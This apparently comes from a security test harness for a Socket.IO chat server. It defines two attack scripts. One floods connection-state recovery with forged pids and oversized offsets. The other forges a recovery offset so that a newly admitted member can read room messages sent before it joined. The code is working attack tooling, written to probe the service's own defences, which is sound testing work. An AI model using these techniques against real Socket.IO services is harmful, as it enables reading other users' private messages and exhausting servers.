"""Forgeries: what a client says of itself, so as to read what it may not."""

from __future__ import annotations

import asyncio
import json
import re
from contextlib import suppress

import socketio

from bench.attack.arena import Arena
from bench.attack.registry import HANDS, Who, attack
from bench.attack.speech import event
from bench.attack.wire import WebSocket

_SECRET = "what was said before"


@attack("forged-offsets", Who.MEMBER)
async def forged_offsets(arena: Arena) -> None:
    """Native recovery with forged `pid` and `offset`, as fast as they are answered."""

    async def come(number: int) -> None:
        one = await arena.member("/chat", number=number)  # the last namespace isn't left
        auth = {"token": arena.token(), "recover": True, "offset": "z" * 10_000}
        while True:
            auth["pid"] = f"forged-{arena.counts['forged']}"
            await one.text(f"40/circles,{json.dumps(auth)}")
            await one.starting("40", "44")
            await one.text("41/circles,")
            arena.counts["forged"] += 1

    await arena.insist(HANDS, come)


@attack("forged-offset-of-a-place", Who.WORKER, redis=True)
async def forged_offset_of_a_place(arena: Arena) -> None:
    """A member whom a worker let into a room comes back from before that, by a forged offset."""
    assert arena.redis_url is not None
    owner = await arena.member(token=arena.token("owner", "user", "circles:vault:rw"))
    for _message in range(5):
        await _say(owner, _SECRET)
    worker = socketio.AsyncRedisManager(arena.redis_url, write_only=True)
    for forged in (r".0", r".1", r".2"):
        thief = await arena.websocket(number=1)
        sid, pid = await _come(thief, arena)
        await worker.enter_room(sid, "/circles", "vault")
        offset = await _hear(thief, owner)
        if offset is None:
            arena.broken.append("the worker's word never came")
            continue
        thief.close()
        again = await arena.websocket(number=1)
        _sid, answered = await _come(again, arena, pid=pid, offset=re.sub(r"\.\d+", forged, offset))
        arena.counts["recovered" if answered == pid else "anew"] += 1
        if _SECRET in await _all(again):
            arena.broken.append(f"read what was said before by {forged!r}")
    await worker.pubsub.aclose()
    await worker.redis.aclose()


async def _come(one: WebSocket, arena: Arena, **auth: str) -> tuple[str, str]:
    """Enter the namespace; return the session's id and its private id."""
    await one.text(f"40/circles,{json.dumps({'token': arena.token(), 'recover': True, **auth})}")
    connected = json.loads((await one.starting("40"))[11:])
    return connected["sid"], connected["pid"]


async def _say(owner: WebSocket, content: str) -> None:
    message = {"channel": "vault", "data": {"content": content}}
    await owner.text(event("/circles", "user_message", message, 1))
    await owner.starting("43/circles,1")


async def _all(one: WebSocket) -> str:
    """Return whatever comes in a while."""
    heard = ""
    with suppress(TimeoutError):
        async with asyncio.timeout(0.4):
            while True:
                heard += await one.next()
    return heard


async def _hear(thief: WebSocket, owner: WebSocket) -> str | None:
    """Say something until the thief hears it, for it is let in; return the offset that it gets."""
    for _attempt in range(20):
        await _say(owner, "open")
        with suppress(TimeoutError):
            async with asyncio.timeout(0.3):
                packet = await thief.starting('42/circles,["user_message"')
                return str(json.loads(packet[11:])[-1])
    return None
